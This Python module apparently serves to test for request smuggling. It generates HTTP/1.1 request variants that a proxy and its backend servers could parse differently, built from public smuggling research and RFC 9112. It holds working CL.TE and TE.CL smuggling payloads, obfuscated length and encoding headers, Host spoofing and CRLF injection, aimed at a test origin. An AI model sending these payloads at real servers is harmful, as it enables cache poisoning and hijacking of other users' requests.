"""A corpus of requests that two readers could take for different ones, for a proxy and the servers behind it.

`VARIANTS` are (name, bytes), for an origin at AUTHORITY.  Every target's path begins with the variant's number; what
is to be smuggled asks for `.../evil`, and behind it all stands a plain request for `.../next`.  In the tables `@@`
stands for the authority and `%%` for the number.  The sources: PortSwigger's work on request
smuggling (2019 to 2025: CL.TE, TE.CL, TE.TE, CL.0, 0.CL, chunk extensions), RFC 9112 section 11.2, h11's and
llhttp's lists of past faults, and every byte in every place of a field.
"""

from __future__ import annotations

from collections.abc import Iterator

AUTHORITY = b"origin.test:8080"
EVIL = b"GET /%%/evil HTTP/1.1\r\nHost: @@\r\n\r\n"
NEXT = b"GET http://@@/%%/next HTTP/1.1\r\nHost: @@\r\n\r\n"
CHUNKED = b"Transfer-Encoding: chunked"
LINE = b"POST http://@@/%%/a HTTP/1.1\r\n"
HOST = b"Host: @@\r\n"

CODINGS = [
    b"Transfer-Encoding: chunked", b"transfer-encoding:chunked", b"TRANSFER-ENCODING: CHUNKED",
    b"Transfer-Encoding: cHuNkEd", b"Transfer-Encoding:\tchunked", b"Transfer-Encoding: chunked \t",
    b"Transfer-Encoding : chunked", b"Transfer-Encoding\t: chunked", b" Transfer-Encoding: chunked",
    b"\tTransfer-Encoding: chunked", b"Transfer-Encoding:\x0bchunked", b"Transfer-Encoding:\x0cchunked",
    b"Transfer-Encoding: chunked\x0b", b"Transfer-Encoding:\xa0chunked", b"Transfer-Encoding: chunked\xa0",
    b"Transfer-Encoding: \x85chunked", b"Transfer-Encoding: \x00chunked", b"Transfer-Encoding: chunked\x00",
    b"Transfer-Encoding\x00: chunked", b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunkedx",
    b"Transfer-Encoding: chunk", b"Transfer-Encoding: cow", b"Transfer-Encoding: identity", b"Transfer-Encoding: gzip",
    b"Transfer-Encoding: ", b"Transfer-Encoding:", b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: gzip, chunked", b"Transfer-Encoding: chunked, gzip",
    b"Transfer-Encoding: chunked, chunked", b"Transfer-Encoding: chunked,", b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: , chunked ,", b"Transfer-Encoding: chunked;q=1", b"Transfer-Encoding: chunked; a=b",
    b'Transfer-Encoding: "chunked"', b"Transfer-Encoding: 'chunked'",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow", b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding:\r\n\tchunked", b"Transfer-Encoding: chun\r\n ked", b"Transfer-Encoding:\n chunked",
    b"X: y\nTransfer-Encoding: chunked", b"X: y\rTransfer-Encoding: chunked", b"X: y\r\rTransfer-Encoding: chunked",
    b"X: y\r\n\rTransfer-Encoding: chunked", b"X: y\n\rTransfer-Encoding: chunked", b"X:\nTransfer-Encoding: chunked",
    b"Transfer-Encoding\r\n: chunked", b"Transfer-Encoding\n: chunked", b"Transfer_Encoding: chunked",
    b"TRANSFER_ENCODING: chunked", b"Transfer.Encoding: chunked", b"Transfer Encoding: chunked",
    b"Transfer-Encoding: chunked\nX: y", b"Transfer-Encoding: chunked\rX: y", b"X-Transfer-Encoding: chunked",
    b"Transfer-Encoding-X: chunked", b"Content-Encoding: chunked", b"\x00Transfer-Encoding: chunked",
    b"\xefTransfer-Encoding: chunked", b"Transfer-Enc\xc3\xb6ding: chunked", b"Transfer-Encoding: chunk\xe9d",
    b"Transfer-Encoding: ch\xc5\xbfunked", b"Transfer-Encoding:: chunked", b"Transfer-Encoding=chunked",
    b"Transfer-Encoding chunked", b":Transfer-Encoding: chunked", b"Transfer-Encoding: chunked, trailers",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked", b"TE: chunked", b"Transfer-Encoding: \"\", chunked",
    b"Transfer-Encoding: chunked\r\nConnection: close, Transfer-Encoding", b"Transfer-Encoding: trailers, chunked",
]  # fmt: skip

LENGTHS = [
    b"Content-Length: 5", b"content-length:5", b"CONTENT-LENGTH:\t5\t", b"Content-Length: 05",
    b"Content-Length: 0000000000005", b"Content-Length: +5", b"Content-Length: -5", b"Content-Length: 5.0",
    b"Content-Length: 5e0", b"Content-Length: 0x5", b"Content-Length: 5 ", b"Content-Length: 5 5",
    b"Content-Length: 5,5", b"Content-Length: 5, 5", b"Content-Length: 5,", b"Content-Length: ,5",
    b"Content-Length: 5;", b"Content-Length: 5;a=b", b"Content-Length: 5a", b"Content-Length: a5",
    b"Content-Length: 5_0", b"Content-Length: 1_0", b"Content-Length: \"5\"", b"Content-Length: '5'",
    b"Content-Length:", b"Content-Length: ", b"Content-Length: 5\x00", b"Content-Length: \x005",
    b"Content-Length: 5\x0b", b"Content-Length: \x0c5", b"Content-Length: 5\xa0", b"Content-Length: \xd9\xa5",
    b"Content-Length: \xb2", b"Content-Length: \xef\xbc\x95", b"Content-Length: 00000000000000000005",
    b"Content-Length: 18446744073709551621", b"Content-Length: 4294967301", b"Content-Length: 5\r\nContent-Length: 5",
    b"Content-Length: 5\r\nContent-Length: 0", b"Content-Length: 0\r\nContent-Length: 5", b"Content-Length: 0\r\n 5",
    b"Content-Length:\r\n 5", b"Content-Length: 0\n5", b"Content-Length : 5", b"Content-Length\t: 5",
    b" Content-Length: 5", b"\tContent-Length: 5", b"Content_Length: 5", b"CONTENT_LENGTH: 5", b"Content Length: 5",
    b"Content-Length\x00: 5", b"X: y\nContent-Length: 5", b"X: y\rContent-Length: 5", b"X: y\r\n\rContent-Length: 5",
    b"Content-Length: 5\nX: y", b"Content-Length: 5\rX: y", b"Content-Length:: 5", b"Content-Length=5",
    b"Content-Length 5", b"Connection: Content-Length\r\nContent-Length: 5",
    b"Content-Length: 5\r\nConnection: content-length, close", b"Content-Length: 0", b"Content-Length: 00",
    b"Content-Length: -0", b"Content-Length: +0", b"X-Content-Length: 5", b"Content-Length-X: 5",
    b"Content-Length: 5\r\nExpect: 100-continue", b"Content-Length: 5\r\nExpect: y 100-continue",
    b"Content-Length: 5\r\nExpect: 100-continue\r\nExpect: 100-continue",
    b"Content-Length: 5\r\nExpect:\r\n 100-continue", b"Content-Length: 5\r\nExpect: 100-CONTINUE",
    b"Content-Length: 5\r\nExpect: ", b"Content-Length: 5\r\nExpect : 100-continue",
]  # fmt: skip

CHUNKS = [
    b"5\r\nhello\r\n0\r\n\r\n", b"05\r\nhello\r\n0\r\n\r\n", b"000000000000005\r\nhello\r\n00\r\n\r\n",
    b"a\r\nhellohello\r\n0\r\n\r\n", b"A\r\nhellohello\r\n000\r\n\r\n", b"0000000000000000000005\r\nhello\r\n0\r\n\r\n",
    b"0x5\r\nhello\r\n0\r\n\r\n", b"5 \r\nhello\r\n0\r\n\r\n", b"5\t\r\nhello\r\n0\r\n\r\n",
    b" 5\r\nhello\r\n0\r\n\r\n", b"+5\r\nhello\r\n0\r\n\r\n", b"-5\r\nhello\r\n0\r\n\r\n", b"5_0\r\nhello\r\n0\r\n\r\n",
    b"0_5\r\nhello\r\n0\r\n\r\n", b"5.\r\nhello\r\n0\r\n\r\n", b"5g\r\nhello\r\n0\r\n\r\n",
    b"\r\n5\r\nhello\r\n0\r\n\r\n", b"5;a\r\nhello\r\n0\r\n\r\n", b"5;a=b\r\nhello\r\n0;c=d\r\n\r\n",
    b"5 ;a = b\r\nhello\r\n0\r\n\r\n", b'5;a="b;c"\r\nhello\r\n0\r\n\r\n', b'5;a="\\""\r\nhello\r\n0\r\n\r\n',
    b"5;\r\nhello\r\n0\r\n\r\n", b"5;;\r\nhello\r\n0\r\n\r\n", b"5;\xff\r\nhello\r\n0\r\n\r\n",
    b"5;\x00\r\nhello\r\n0\r\n\r\n", b"5;a\nb\r\nhello\r\n0\r\n\r\n", b"5;a\rb\r\nhello\r\n0\r\n\r\n",
    b'5;a="\r\n"\r\nhello\r\n0\r\n\r\n', b"5;\n\r\nhello\r\n0\r\n\r\n", b"5;\r\r\nhello\r\n0\r\n\r\n",
    b"5;" + b"a" * 200 + b"\r\nhello\r\n0\r\n\r\n", b"5;" + b"a" * 20000 + b"\r\nhello\r\n0\r\n\r\n",
    b"5 a\r\nhello\r\n0\r\n\r\n", b"5\nhello\n0\n\n", b"5\nhello\r\n0\r\n\r\n", b"5\r\nhello\n0\r\n\r\n",
    b"5\r\nhello\r\n0\n\r\n", b"5\r\nhello\r\n0\r\n\n", b"5\r\nhello\r0\r\n\r\n", b"5\r\nhello0\r\n\r\n",
    b"5\r\nhelloXX0\r\n\r\n", b"5\r\nhello\r\r\n0\r\n\r\n", b"5\r\r\nhello\r\n0\r\n\r\n", b"5\rXhello\r\n0\r\n\r\n",
    b"6\r\nhello\r\n0\r\n\r\n", b"4\r\nhello\r\n0\r\n\r\n", b"7fffffffffffffff\r\nhello\r\n0\r\n\r\n",
    b"8000000000000000\r\nhello\r\n0\r\n\r\n", b"ffffffffffffffff\r\nhello\r\n0\r\n\r\n",
    b"10000000000000005\r\nhello\r\n0\r\n\r\n", b"100000005\r\nhello\r\n0\r\n\r\n", b"\xd9\xa5\r\nhello\r\n0\r\n\r\n",
    b"\xb5\r\nhello\r\n0\r\n\r\n", b"0\r\n\r\n", b"0000\r\n\r\n", b"0 \r\n\r\n", b"0;\r\n\r\n", b"0x0\r\n\r\n",
    b"-0\r\n\r\n", b"\r\n\r\n", b"", b"g\r\n\r\n", b"5\r\nhello\r\n0\r\nX.Y: z\r\n\r\n",
    b"5\r\nhello\r\n0\r\nX : y\r\n\r\n", b"5\r\nhello\r\n0\r\nX: y\r\n z\r\n\r\n",
    b"5\r\nhello\r\n0\r\nX: y\nZ: w\r\n\r\n", b"5\r\nhello\r\n0\r\nContent-Length: 50\r\n\r\n",
    b"5\r\nhello\r\n0\r\nHost: evil\r\n\r\n", b"5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n",
    b"5\r\nhello\r\n0\r\n: y\r\n\r\n", b"5\r\nhello\r\n0\r\nX\r\n\r\n",
    b"5\r\nhello\r\n0\r\nGET /%%/evil HTTP/1.1\r\nHost: @@\r\n\r\n", b"5\r\nhello\r\n0\r\nX: y\n\n",
    b"5\r\nhello\r\n0\r\n\rX\r\n\r\n", b"5\r\nhello\r\n0\r\nX: \x00\r\n\r\n", b"5\r\nhello\r\n0\r\nX_Y: \xff\r\n\r\n",
    b"5\r\nhello\r\n0\r\nContent_Length: 5\r\n\r\n", b"2\r\nhe\r\n3\r\nllo\r\n0\r\n\r\n",
    b"1;a\r\nh\r\n1\r\ne\r\n1\r\nl\r\n1\r\nl\r\n1\r\no\r\n0\r\n\r\n",
]  # fmt: skip

LINES = [  # request lines; the head after them is plain
    b"GET http://@@/%%/a HTTP/1.1", b"GET  http://@@/%%/a HTTP/1.1", b"GET http://@@/%%/a  HTTP/1.1",
    b"GET\thttp://@@/%%/a\tHTTP/1.1", b"GET http://@@/%%/a HTTP/1.1 ", b" GET http://@@/%%/a HTTP/1.1",
    b"GET http://@@/%%/a HTTP/1.0", b"GET http://@@/%%/a HTTP/1.2", b"GET http://@@/%%/a HTTP/1.9",
    b"GET http://@@/%%/a HTTP/0.9", b"GET http://@@/%%/a HTTP/2.0", b"GET http://@@/%%/a HTTP/01.1",
    b"GET http://@@/%%/a HTTP/1.01", b"GET http://@@/%%/a HTTP/1.", b"GET http://@@/%%/a HTTP/1",
    b"GET http://@@/%%/a http/1.1", b"GET http://@@/%%/a HTTP /1.1", b"GET http://@@/%%/a HTTP/ 1.1",
    b"GET http://@@/%%/a HTTP/1.1\x00", b"GET http://@@/%%/a XHTTP/1.1", b"GET http://@@/%%/a HTTP/1.1 HTTP/1.1",
    b"GET http://@@/%%/a", b"GET http://@@/%% /a HTTP/1.1", b"GET http://@@/%%/\xe4 HTTP/1.1",
    b"GET http://@@/%%/\x00 HTTP/1.1", b"GET http://@@/%%/\x7f HTTP/1.1", b"GET http://@@/%%/a\rX HTTP/1.1",
    b"GET http://@@/%%/a\nX: HTTP/1.1", b"get http://@@/%%/a HTTP/1.1", b"G\x00T http://@@/%%/a HTTP/1.1",
    b"G(T http://@@/%%/a HTTP/1.1", b"GET: http://@@/%%/a HTTP/1.1", b"PROPFIND http://@@/%%/a HTTP/1.1",
    b"M-SEARCH http://@@/%%/a HTTP/1.1", b"DELETE http://@@/%%/a HTTP/1.1", b"PATCH http://@@/%%/a HTTP/1.1",
    b"OPTIONS http://@@/%%/a HTTP/1.1", b"HEAD http://@@/%%/a HTTP/1.1", b"TRACK http://@@/%%/a HTTP/1.1",
    b"PRI http://@@/%%/a HTTP/1.1", b"HTTP/1.1 http://@@/%%/a HTTP/1.1", b"POST http://@@/%%/a HTTP/1.1",
    b"PUT http://@@/%%/a HTTP/1.1", b"QUERY http://@@/%%/a HTTP/1.1", b"GET http://u@@@/%%/a HTTP/1.1",
    b"GET http://u:p@@@/%%/a HTTP/1.1", b"GET http://@@#/%%/a HTTP/1.1", b"GET http://@@/%%/a#b HTTP/1.1",
    b"GET http://@@\\/%%/a HTTP/1.1", b"GET http:/\\@@/%%/a HTTP/1.1", b"GET http:@@/%%/a HTTP/1.1",
    b"GET http:/@@/%%/a HTTP/1.1", b"GET http:///@@/%%/a HTTP/1.1", b"GET //@@/%%/a HTTP/1.1", b"GET /%%/a HTTP/1.1",
    b"GET %%/a HTTP/1.1", b"GET * HTTP/1.1", b"GET https://@@/%%/a HTTP/1.1", b"GET ws://@@/%%/a HTTP/1.1",
    b"GET ftp://@@/%%/a HTTP/1.1", b"GET HTTP://@@/%%/a HTTP/1.1", b"GET http://@@/%%/http://evil.test/ HTTP/1.1",
    b"GET http://@@/%%//evil.test/ HTTP/1.1", b"GET http://@@//%%/a HTTP/1.1", b"GET http://@@/%%/../a HTTP/1.1",
    b"GET http://@@/%%/./a HTTP/1.1", b"GET http://@@/%%/%2e%2e/a HTTP/1.1", b"GET http://@@/%%/%00 HTTP/1.1",
    b"GET http://@@/%%/%0d%0aX:%20y HTTP/1.1", b"GET http://@@/%%/a%20HTTP/1.1 HTTP/1.1",
    b"GET http://@@/%%/%zz HTTP/1.1", b"GET http://@@/%%/% HTTP/1.1", b"GET http://@@/%%/a?b=c&d HTTP/1.1",
    b"GET http://@@/%%/a?b?c HTTP/1.1", b"GET http://@@/%%/? HTTP/1.1", b"GET http://@@/%%/?http://x/ HTTP/1.1",
    b"GET http://@@/%%/;a=b HTTP/1.1", b"GET http://@@/%%/:@!$&'()*+,;= HTTP/1.1", b"GET http://@@/%%/[] HTTP/1.1",
    b"GET http://@@/%%/{}|^` HTTP/1.1", b'GET http://@@/%%/"<> HTTP/1.1', b"GET http://@@/%%/\\ HTTP/1.1",
    b"GET http://@@/%%/~_-. HTTP/1.1", b"GET http://@@:/%%/a HTTP/1.1", b"\r\nGET http://@@/%%/a HTTP/1.1",
    b"\r\n\r\n\r\nGET http://@@/%%/a HTTP/1.1", b"\nGET http://@@/%%/a HTTP/1.1", b"\rGET http://@@/%%/a HTTP/1.1",
    b"GET http://@@?%%/a HTTP/1.1", b"GET http://@@/%%/" + b"a" * 4000 + b" HTTP/1.1",
]  # fmt: skip

HOSTS = [
    b"Host: @@", b"Host: evil.test", b"Host:@@", b"Host:", b"Host: ", b"Host: @@:80", b"Host: u@@@", b"Host: @@/",
    b"Host: @@#", b"Host: @@?", b"Host: @@ evil.test", b"Host: @@,evil.test", b"Host: @@\r\nHost: @@",
    b"Host: @@\r\nHost: evil.test", b"host: evil.test\r\nHOST: @@", b"Host: @@\r\n evil.test", b"Host:\r\n @@",
    b" Host: @@", b"Host : @@", b"Host\t: @@", b"Host\x00: @@", b"Host: @@\x00", b"Host: \x00@@", b"X: y\nHost: @@",
    b"Host: @@\nX: y", b"Host: @@\rX: y", b"X: y", b"Host: http://@@/", b"Host: [::1]", b"Host: [::1", b"Host: [evil]",
    b"Host: %31", b"Host: \xe4.test", b"Host: a_b.test", b"Host: @@\\", b'Host: "@@"', b"Connection: Host\r\nHost: @@",
    b"HOST: @@", b"Host_: evil.test\r\nHost: @@", b"Host: @@\r\nX-Forwarded-Host: evil.test",
    b"Host: @@\r\nForwarded: host=evil", b"Host: @@\r\nX_Forwarded_Host: evil.test", b":authority: x\r\nHost: @@",
]  # fmt: skip

SHAPES = [  # whole messages
    b"GET http://@@/%%/a HTTP/1.1\r\nHost: @@\r\n\r\n", b"GET http://@@/%%/a HTTP/1.1\nHost: @@\n\n",
    b"GET http://@@/%%/a HTTP/1.1\r\nHost: @@\r\n\n", b"GET http://@@/%%/a HTTP/1.1\r\nHost: @@\n\r\n",
    b"GET http://@@/%%/a HTTP/1.1\r\nHost: @@\r\n\rX", b"GET http://@@/%%/a HTTP/1.1\r\nHost: @@\r\n\r\r\n\r\n",
    b"GET http://@@/%%/a HTTP/1.1\r\n\r\nHost: @@\r\n\r\n", b"GET http://@@/%%/a HTTP/1.1\r\n X: y\r\nHost: @@\r\n\r\n",
    b"GET http://@@/%%/a HTTP/1.1\r\n\tX: y\r\nHost: @@\r\n\r\n",
    b"GET http://@@/%%/a HTTP/1.1\r\n \r\nHost: @@\r\n\r\n",
    b"GET http://@@/%%/a HTTP/1.1\r\nX: y\r\n z\r\nHost: @@\r\n\r\n",
    b"GET http://@@/%%/a HTTP/1.1\r\nX: y\r\n \r\nHost: @@\r\n\r\n", b"GET http://@@/%%/a\r\nHost: @@\r\n\r\n",
    b"GET http://@@/%%/a HTTP/0.9\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"GET http://@@/%%/a HTTP/1.1\r\nHost: @@\r\nContent-Length: 5\r\n\r\nhello",
    b"HEAD http://@@/%%/a HTTP/1.1\r\nHost: @@\r\nContent-Length: 5\r\n\r\nhello",
    b"DELETE http://@@/%%/a HTTP/1.1\r\nHost: @@\r\nContent-Length: 5\r\n\r\nhello",
    b"OPTIONS http://@@/%%/a HTTP/1.1\r\nHost: @@\r\nContent-Length: 5\r\n\r\nhello",
    b"TRACE http://@@/%%/a HTTP/1.1\r\nHost: @@\r\nContent-Length: 5\r\n\r\nhello",
    b"GET http://@@/%%/a HTTP/1.1\r\nHost: @@\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
    b"HEAD http://@@/%%/a HTTP/1.1\r\nHost: @@\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
    b"GET http://@@/%%/a HTTP/1.1\r\nHost: @@\r\nContent-Length: 0\r\n\r\n",
    b"GET http://@@/%%/a HTTP/1.1\r\nHost: @@\r\nConnection: close\r\n\r\n",
    b"GET http://@@/%%/a HTTP/1.1\r\nHost: @@\r\nConnection: keep-alive\r\nKeep-Alive: timeout=1\r\n\r\n",
    b"GET http://@@/%%/a HTTP/1.1\r\nHost: @@\r\nConnection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMA\r\n\r\n",
    b"POST http://@@/%%/a HTTP/1.1\r\nHost: @@\r\nConnection: Upgrade\r\nUpgrade: x\r\nContent-Length: 5\r\n\r\nhello",
    b"GET http://@@/%%/a HTTP/1.0\r\n\r\n",
    b"GET http://@@/%%/a HTTP/1.0\r\nHost: @@\r\nConnection: keep-alive\r\n\r\n",
    b"POST http://@@/%%/a HTTP/1.0\r\nHost: @@\r\nContent-Length: 5\r\n\r\nhello",
    b"POST http://@@/%%/a HTTP/1.0\r\nHost: @@\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
    b"POST http://@@/%%/a HTTP/1.1\r\nHost: @@\r\n\r\n", b"POST http://@@/%%/a HTTP/1.1\r\nHost: @@\r\n\r\nhello",
    b"CONNECT @@ HTTP/1.1\r\nHost: @@\r\nContent-Length: 5\r\n\r\nhello",
    b"GET http://@@/%%/a HTTP/1.1\r\nHost: @@\r\nX-HTTP-Method-Override: DELETE\r\n\r\n",
    b"GET http://@@/%%/a HTTP/1.1\r\nHost: @@\r\n" + b"A: b\r\n" * 99 + b"\r\n",
    b"GET http://@@/%%/a HTTP/1.1\r\nHost: @@\r\n" + b"A: b\r\n" * 100 + b"\r\n",
    b"GET http://@@/%%/a HTTP/1.1\r\nHost: @@\r\nA: " + b"b" * 4000 + b"\r\n\r\n",
    b"GET http://@@/%%/a HTTP/1.1\r\nHost: @@\r\nA: " + b"b" * 70000 + b"\r\n\r\n",
]  # fmt: skip


# Each that is no letter or digit, some of those, and some beyond ASCII
BYTES = [
    *range(0x30),
    *b"5",
    *range(0x3A, 0x41),
    *b"a",
    *range(0x5B, 0x61),
    *range(0x7B, 0x81),
    0x85,
    0xA0,
    0xAD,
    0xB2,
    0xE4,
    0xFF,
]


def variants() -> Iterator[tuple[str, bytes]]:
    end = b"\r\n\r\n"
    for at, coding in enumerate(CODINGS):
        whole = b"0\r\n\r\n" + EVIL
        yield f"CL.TE {at}", LINE + HOST + b"Content-Length: %d\r\n" % len(filled(whole)) + coding + end + whole
        yield f"TE.CL {at}", LINE + HOST + coding + b"\r\nContent-Length: 4" + end + b"1\r\nZ\r\n0\r\n\r\n"
        yield f"TE {at}", LINE + HOST + coding + end + b"5\r\nhello\r\n0\r\n\r\n"
    for at, length in enumerate(LENGTHS):
        yield f"CL {at}", LINE + HOST + length + end + b"hello"
        yield f"CL.0 {at}", b"GET" + LINE[4:] + HOST + length + end + b"hello"
        yield f"CL with a request {at}", LINE + HOST + length.replace(b"5", b"%d" % len(filled(EVIL))) + end + EVIL
    for at, chunks in enumerate(CHUNKS):
        yield f"chunks {at}", LINE + HOST + CHUNKED + end + chunks
    for at, line in enumerate(LINES):
        yield f"line {at}", line + b"\r\n" + HOST + b"\r\n"
    for at, host in enumerate(HOSTS):
        yield f"host {at}", b"GET http://@@/%%/a HTTP/1.1\r\n" + host + end
    for at, shape in enumerate(SHAPES):
        yield f"shape {at}", shape
    for byte in BYTES:
        one, head = bytes((byte,)), b"GET http://@@/%%/a HTTP/1.1\r\n" + HOST
        yield f"byte {byte:02x} in a name", head + b"X-A" + one + b"B: c" + end
        yield f"byte {byte:02x} before a value", head + b"X-A:" + one + b"c" + end
        yield f"byte {byte:02x} in a value", head + b"X-A: b" + one + b"c" + end
        yield f"byte {byte:02x} after a value", head + b"X-A: b" + one + end
        yield (
            f"byte {byte:02x} before the length's colon",
            LINE + HOST + b"Content-Length" + one + b": 5" + end + b"hello",
        )
        yield f"byte {byte:02x} before a length", LINE + HOST + b"Content-Length:" + one + b"5" + end + b"hello"
        yield f"byte {byte:02x} after a length", LINE + HOST + b"Content-Length: 5" + one + end + b"hello"
        yield f"byte {byte:02x} after a coding", LINE + HOST + CHUNKED + one + end + b"5\r\nhello\r\n0\r\n\r\n"
        yield (
            f"byte {byte:02x} after a chunk size",
            LINE + HOST + CHUNKED + end + b"5" + one + b"\r\nhello\r\n0\r\n\r\n",
        )
        yield f"byte {byte:02x} in a method", b"G" + one + b"T http://@@/%%/a HTTP/1.1\r\n" + HOST + b"\r\n"
        yield f"byte {byte:02x} in a path", b"GET http://@@/%%/" + one + b"a HTTP/1.1\r\n" + HOST + b"\r\n"


def filled(text: bytes, number: int = 0) -> bytes:
    return text.replace(b"@@", AUTHORITY).replace(b"%%", b"v%04d" % number)


VARIANTS = [(name, filled(said + NEXT, number)) for number, (name, said) in enumerate(variants())]
